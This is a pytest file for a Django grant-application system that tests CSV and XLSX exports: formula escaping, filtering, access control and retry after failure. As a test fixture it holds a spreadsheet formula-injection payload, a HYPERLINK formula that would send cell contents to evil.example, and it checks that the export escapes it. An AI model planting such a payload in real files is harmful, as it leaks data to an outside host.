"""Exports of the filtered application list: CSV and XLSX, written by a task, safe to open in a spreadsheet,
downloadable only by whoever asked; a failure is shown with its reason and can be retried."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.roles import Role
from core.selectors import audit_entries_for
from grants.export_tasks import export_applications, fail_stuck_exports
from grants.exports import safe_cell
from grants.models import ApplicationExport, ApplicationStatus, ExportStatus
from grants.services.exports import application_export_request
from municipalities.models import Municipality
from tests.factories import UserFactory
from tests.grants.application_factories import ApplicationFactory, BudgetLineFactory

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
LIST_URL = "/en/staff/applications/"


@pytest.fixture(autouse=True)
def _no_two_factor(settings):
    settings.STAFF_REQUIRE_2FA = False


@pytest.fixture
def officer(db):
    return UserFactory(role=Role.PROGRAMME_OFFICER)


@pytest.fixture
def applications(db):
    gracanica = Municipality.objects.get(code="gracanica")
    evil = ApplicationFactory(submitted=True, reference="AKT-CE-2027-0001", title=EVIL, municipality=gracanica)
    BudgetLineFactory(application=evil, requested_amount=Decimal("1800.00"))
    ApplicationFactory(submitted=True, reference="AKT-CE-2027-0002", title="+381 hotline")
    ApplicationFactory(submitted=True, reference="AKT-CE-2027-0003", title="Plain title", status="eligible")
    ApplicationFactory(title="A draft, never exported")
    return evil


def _export(actor, export_format, filters, capture):
    with capture(execute=True):
        export = application_export_request(actor=actor, export_format=export_format, filters=filters)
    export.refresh_from_db()
    return export


def _csv_rows(export):
    with export.file.open("rb") as handle:
        text = handle.read().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _xlsx_rows(export):
    with export.file.open("rb") as handle:
        workbook = openpyxl.load_workbook(io.BytesIO(handle.read()))
    return [[cell.value for cell in row] for row in workbook.active.iter_rows()]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+381 44 123", "'+381 44 123"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Plain", "Plain"),
        ("a=b", "a=b"),
        (Decimal("-5"), Decimal("-5")),
    ],
)
def test_text_that_would_run_as_a_formula_gets_a_leading_quote(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.django_db
def test_csv_export_escapes_formulas_and_counts_rows(officer, applications, django_capture_on_commit_callbacks):
    export = _export(officer, "csv", {"sort": "reference"}, django_capture_on_commit_callbacks)
    assert export.status == ExportStatus.SUCCEEDED
    assert export.row_count == 3
    header, *rows = _csv_rows(export)
    assert header[:3] == ["Reference", "Project title", "Applicant"]
    assert [row[0] for row in rows] == ["AKT-CE-2027-0001", "AKT-CE-2027-0002", "AKT-CE-2027-0003"]
    assert rows[0][1] == "'" + EVIL
    assert rows[1][1] == "'+381 hotline"
    assert rows[2][1] == "Plain title"
    assert rows[0][9] == "1800.00"


@pytest.mark.django_db
def test_xlsx_export_escapes_formulas_and_counts_rows(officer, applications, django_capture_on_commit_callbacks):
    export = _export(officer, "xlsx", {"sort": "reference"}, django_capture_on_commit_callbacks)
    assert export.status == ExportStatus.SUCCEEDED
    assert export.row_count == 3
    header, *rows = _xlsx_rows(export)
    assert header[0] == "Reference"
    assert len(rows) == 3
    assert rows[0][1] == "'" + EVIL  # a string, not a formula
    assert rows[1][1] == "'+381 hotline"
    assert rows[0][9] == 1800
    assert isinstance(rows[0][10], datetime.datetime)


@pytest.mark.django_db
def test_export_follows_the_filters(officer, applications, django_capture_on_commit_callbacks):
    export = _export(officer, "csv", {"status": "eligible"}, django_capture_on_commit_callbacks)
    assert export.row_count == 1
    assert [row[0] for row in _csv_rows(export)[1:]] == ["AKT-CE-2027-0003"]


@pytest.mark.django_db
def test_names_in_the_file_follow_the_requesters_language(applications, django_capture_on_commit_callbacks):
    reader = UserFactory(role=Role.MANAGER, language="sr")
    export = _export(reader, "csv", {"q": "AKT-CE-2027-0001"}, django_capture_on_commit_callbacks)
    assert export.language == "sr"
    assert _csv_rows(export)[1][7] == "Грачаница"


# --- Through the pages --------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_export_button_posts_the_current_filters_and_the_file_downloads(
    client, officer, applications, django_capture_on_commit_callbacks
):
    client.force_login(officer)
    page = client.get(LIST_URL, {"status": "eligible"}).content.decode()
    assert 'name="status" value="eligible"' in page  # the export form carries the filters
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("staff:export_create"), {"status": "eligible", "format": "csv"})
    export = ApplicationExport.objects.get()
    assert response.url == reverse("staff:export_detail", kwargs={"pk": export.pk})
    assert export.filters["status"] == "eligible"
    detail = client.get(response.url).content.decode()
    assert 'http-equiv="refresh"' not in detail
    download_url = reverse("staff:export_download", kwargs={"pk": export.pk})
    assert download_url in detail
    download = client.get(download_url)
    assert download.status_code == 200
    assert "AKT-CE-2027-0003" in b"".join(download.streaming_content).decode("utf-8-sig")


@pytest.mark.django_db
def test_only_the_requester_or_an_admin_sees_and_downloads_an_export(
    client, officer, applications, django_capture_on_commit_callbacks
):
    export = _export(officer, "xlsx", {}, django_capture_on_commit_callbacks)
    urls = [
        reverse("staff:export_detail", kwargs={"pk": export.pk}),
        reverse("staff:export_download", kwargs={"pk": export.pk}),
    ]
    client.force_login(UserFactory(role=Role.MANAGER))
    assert [client.get(url).status_code for url in urls] == [404, 404]
    client.force_login(UserFactory(role=Role.APPLICANT))
    assert [client.get(url).status_code for url in urls] == [404, 404]
    client.force_login(UserFactory(role=Role.ADMIN))
    assert [client.get(url).status_code for url in urls] == [200, 200]


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.APPLICANT, Role.USAID_VIEWER, Role.REVIEWER])
def test_people_who_may_not_list_applications_cannot_export(client, applications, role):
    client.force_login(UserFactory(role=role))
    assert client.post(reverse("staff:export_create"), {"format": "csv"}).status_code == 404
    assert not ApplicationExport.objects.exists()


@pytest.mark.django_db
def test_page_refreshes_itself_while_the_export_is_queued(client, officer, applications):
    client.force_login(officer)
    export = application_export_request(actor=officer, export_format="csv", filters={})  # task not run yet
    html = client.get(reverse("staff:export_detail", kwargs={"pk": export.pk})).content.decode()
    assert 'http-equiv="refresh"' in html
    assert client.get(reverse("staff:export_download", kwargs={"pk": export.pk})).status_code == 404


@pytest.mark.django_db
def test_a_failed_export_shows_why_and_can_be_retried(
    client, officer, applications, monkeypatch, django_capture_on_commit_callbacks
):
    def broken(export):
        raise OSError("disk full")

    monkeypatch.setattr("grants.exports.write_export", broken)
    export = _export(officer, "csv", {}, django_capture_on_commit_callbacks)
    assert export.status == ExportStatus.FAILED
    assert "OSError" in export.error
    client.force_login(officer)
    detail_url = reverse("staff:export_detail", kwargs={"pk": export.pk})
    html = client.get(detail_url).content.decode()
    assert "The export failed." in html and "OSError" in html
    retry_url = reverse("staff:export_retry", kwargs={"pk": export.pk})
    assert f'action="{retry_url}"' in html

    monkeypatch.undo()
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(retry_url).url == detail_url
    export.refresh_from_db()
    assert export.status == ExportStatus.SUCCEEDED
    assert export.row_count == 3 and export.error == ""
    actions = [entry.action for entry in audit_entries_for(target=export)][::-1]
    assert actions == [
        "grants.export.requested",
        "grants.export.started",
        "grants.export.failed",
        "grants.export.retried",
        "grants.export.started",
        "grants.export.succeeded",
    ]


@pytest.mark.django_db
def test_running_the_task_again_changes_nothing(officer, applications, django_capture_on_commit_callbacks):
    export = _export(officer, "csv", {}, django_capture_on_commit_callbacks)
    name = export.file.name
    ApplicationFactory(submitted=True)  # a redelivered task must not rewrite a finished file
    export_applications(export.pk)
    export.refresh_from_db()
    assert (export.status, export.row_count, export.file.name) == (ExportStatus.SUCCEEDED, 3, name)


@pytest.mark.django_db
def test_an_export_left_running_by_a_dead_worker_is_marked_failed(officer, applications):
    export = application_export_request(actor=officer, export_format="csv", filters={})
    ApplicationExport.objects.filter(pk=export.pk).update(
        status=ExportStatus.RUNNING, updated_at=timezone.now() - datetime.timedelta(hours=1)
    )
    assert fail_stuck_exports() == 1
    export.refresh_from_db()
    assert export.status == ExportStatus.FAILED
    assert "restarted" in export.error


@pytest.mark.django_db
def test_a_redelivered_task_finishes_an_export_left_running(officer, applications):
    export = application_export_request(actor=officer, export_format="csv", filters={})
    ApplicationExport.objects.filter(pk=export.pk).update(status=ExportStatus.RUNNING)
    export_applications(export.pk)
    export.refresh_from_db()
    assert export.status == ExportStatus.SUCCEEDED and export.row_count == 3


@pytest.mark.django_db
def test_control_characters_pasted_by_applicants_do_not_break_the_xlsx(
    officer, applications, django_capture_on_commit_callbacks
):
    ApplicationFactory(submitted=True, reference="AKT-CE-2027-0009", title="Bell\x07 title", status="eligible")
    export = _export(officer, "xlsx", {"status": ApplicationStatus.ELIGIBLE}, django_capture_on_commit_callbacks)
    assert export.status == ExportStatus.SUCCEEDED
    assert "Bell title" in [row[1] for row in _xlsx_rows(export)]
